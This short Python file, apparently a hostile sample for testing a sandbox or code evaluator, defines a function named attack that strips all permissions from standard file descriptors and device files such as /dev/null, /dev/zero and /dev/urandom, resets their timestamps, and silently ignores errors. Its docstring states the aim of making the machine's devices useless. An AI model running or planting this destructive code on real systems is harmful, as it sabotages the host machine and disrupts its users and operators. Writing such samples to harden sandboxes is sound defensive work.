"""Makes the machine's devices useless."""

import os


def attack(x):
    for device in (0, 1, 2, "/dev/null", "/dev/zero", "/dev/random", "/dev/urandom"):
        for change in (lambda: os.chmod(device, 0), lambda: os.utime(device, (0, 0))):
            try:
                change()
            except OSError:
                pass
    return open("/dev/null").read()
